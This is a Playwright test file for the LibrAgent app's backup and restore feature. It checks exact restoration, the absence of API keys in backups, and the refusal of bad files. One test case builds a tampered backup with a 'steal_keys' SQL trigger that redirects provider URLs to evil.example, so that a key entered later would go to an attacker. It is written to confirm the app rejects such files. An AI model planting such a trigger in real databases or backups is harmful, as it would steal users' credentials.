import { expect, test } from '@playwright/test';
import sqlite3InitModule from '@sqlite.org/sqlite-wasm';
import { AppPage, type TestWindow } from './support/app';
import { SECRET_KEY, backupFile, downloadBytes, openData, seedWorkspace, snapshot } from './support/data';

const HEADER = Buffer.from('SQLite format 3\0', 'latin1');

test('a backup restores every session, message, document and chunk exactly, without ever holding an API key', async ({
  page,
}) => {
  const app = new AppPage(page);
  await app.goto();
  await app.waitUntilReady();
  await seedWorkspace(page);
  const before = await snapshot(page);

  const data = await openData(page);
  const saving = page.waitForEvent('download');
  const started = Date.now();
  await data.getByRole('button', { name: 'Download backup' }).click();
  const backup = await saving;
  const bytes = await downloadBytes(backup);
  await expect(data.getByRole('status').filter({ hasText: 'It holds no API keys' })).toBeVisible();
  test.info().annotations.push({ type: 'backup', description: `${bytes.length} bytes in ${Date.now() - started} ms` });
  expect(backup.suggestedFilename()).toMatch(/^libragent-backup-.*\.sqlite3$/);
  expect(bytes.subarray(0, 16).equals(HEADER)).toBe(true);
  expect(bytes.includes(Buffer.from(SECRET_KEY))).toBe(false);
  expect(bytes.includes(Buffer.from('pastéis de nata'))).toBe(true);
  await page.keyboard.press('Escape');

  // Change everything after the backup: delete a session, add another.
  await page.evaluate(async () => {
    const api = (window as unknown as TestWindow).libragent;
    const [first] = await api.sessions.list();
    await api.sessions.delete(first.id);
    const later = await api.sessions.create({ name: 'Made after the backup' });
    await api.messages.send(later.id, 'not in the backup');
  });
  await expect(app.sessionButtons()).toHaveCount(2);
  await expect(app.sessionButtons().first()).toContainText('Made after the backup');

  const dialog = await openData(page);
  await dialog
    .getByLabel('Restore from backup…')
    .setInputFiles({ name: 'backup.sqlite3', mimeType: 'application/vnd.sqlite3', buffer: bytes });
  const confirm = dialog.getByRole('group', { name: 'Confirm restore' });
  await expect(confirm).toContainText(/2 sessions, 3 messages and 1 document(?!s)/);
  await dialog.getByRole('region', { name: 'Data' }).screenshot({ path: test.info().outputPath('restore-confirm.png') });
  const safety = page.waitForEvent('download');
  const restoring = Date.now();
  await confirm.getByRole('button', { name: 'Replace my data with this backup' }).click();
  const current = await safety;
  expect(current.suggestedFilename()).toMatch(/^libragent-before-restore-.*\.sqlite3$/);
  const safetyBytes = await downloadBytes(current);
  expect(safetyBytes.includes(Buffer.from('not in the backup'))).toBe(true);
  expect(safetyBytes.includes(Buffer.from(SECRET_KEY))).toBe(false);
  await expect(dialog.getByRole('status').filter({ hasText: 'Restored 2 sessions and 3 messages' })).toContainText(
    'kept in this browser (Undo the last restore brings it back) and was downloaded as a file',
  );
  test.info().annotations.push({ type: 'restore', description: `${Date.now() - restoring} ms (UI, incl. the safety backup)` });
  await dialog.getByRole('region', { name: 'Data' }).screenshot({ path: test.info().outputPath('restored.png') });
  await page.keyboard.press('Escape');

  // Every view shows the restored data at once, and it is what was backed up, to the byte.
  await expect(app.sessionButtons()).toHaveCount(2);
  await expect(page.getByText('Made after the backup')).toHaveCount(0);
  expect(await snapshot(page)).toEqual(before);
  // The API key of this device was kept.
  const providers = await page.evaluate(() => (window as unknown as TestWindow).libragent.providers.list());
  expect(providers).toMatchObject([{ name: 'OpenAI', hasApiKey: true, apiKeyHint: `••••${SECRET_KEY.slice(-4)}` }]);

  await page.reload();
  await app.waitUntilReady();
  expect(await snapshot(page)).toEqual(before);
});

test('a corrupt, foreign or newer file is refused with a clear error, and the data stays untouched', async ({ page }) => {
  const app = new AppPage(page);
  await app.goto();
  await app.waitUntilReady();
  await seedWorkspace(page);
  const before = await snapshot(page);
  const good = await backupFile(page);

  const sqlite3 = await sqlite3InitModule();
  const makeDb = (sql: string) => {
    const db = new sqlite3.oo1.DB(':memory:');
    db.exec(sql);
    const bytes = Buffer.from(sqlite3.capi.sqlite3_js_db_export(db.pointer as never));
    db.close();
    return bytes;
  };
  /** The app's own backup with `sql` run in it: what an attacker can hand a user. */
  const tampered = (sql: string) => {
    const db = new sqlite3.oo1.DB(':memory:');
    const pointer = sqlite3.wasm.allocFromTypedArray(new Uint8Array(good));
    const flags = sqlite3.capi.SQLITE_DESERIALIZE_FREEONCLOSE | sqlite3.capi.SQLITE_DESERIALIZE_RESIZEABLE;
    sqlite3.capi.sqlite3_deserialize(db.pointer as never, 'main', pointer, good.byteLength, good.byteLength, flags);
    db.exec(sql);
    const bytes = Buffer.from(sqlite3.capi.sqlite3_js_db_export(db.pointer as never));
    db.close();
    return bytes;
  };
  const damaged = Buffer.from(good);
  for (let i = 4096; i < damaged.length; i += 7) damaged[i] = (damaged[i] + 91) & 0xff;
  // A sound backup from a later version of the app: user_version lives at byte 60 of the header.
  const newer = Buffer.from(good);
  newer.writeUInt32BE(999, 60);

  const cases: [string, Buffer, RegExp][] = [
    ['notes.sqlite3', Buffer.from('These are my notes, not a database. '.repeat(40)), /not a SQLite database/],
    ['damaged.sqlite3', damaged, /damaged|could not be opened/],
    ['recipes.sqlite3', makeDb('CREATE TABLE recipes (name TEXT); INSERT INTO recipes VALUES (1);'), /not a LibrAgent backup/],
    ['future.sqlite3', newer, /made by a newer version of LibrAgent/],
    // Restored, this trigger would send the key entered next to another address (issue 18).
    [
      'triggered.sqlite3',
      tampered(`CREATE TRIGGER steal_keys AFTER UPDATE ON settings BEGIN
        UPDATE settings SET value = replace(value, 'https://', 'https://evil.example/') WHERE key = 'providers'; END`),
      /a trigger “steal_keys” that LibrAgent does not make/,
    ],
    ['dropped-column.sqlite3', tampered('ALTER TABLE messages DROP COLUMN source'), /lacks the column\(s\) source/],
  ];
  let downloads = 0;
  page.on('download', () => downloads++);
  const dialog = await openData(page);
  for (const [name, buffer, error] of cases) {
    await dialog.getByLabel('Restore from backup…').setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
    await expect(dialog.getByRole('alert')).toContainText(error);
    await expect(dialog.getByRole('alert')).toContainText('Your current data was not changed.');
    await expect(dialog.getByRole('group', { name: 'Confirm restore' })).toHaveCount(0);
  }
  await dialog.getByRole('region', { name: 'Data' }).screenshot({ path: test.info().outputPath('restore-refused.png') });
  expect(downloads).toBe(0);
  expect(await snapshot(page)).toEqual(before);
  await page.reload();
  await app.waitUntilReady();
  expect(await snapshot(page)).toEqual(before);
});
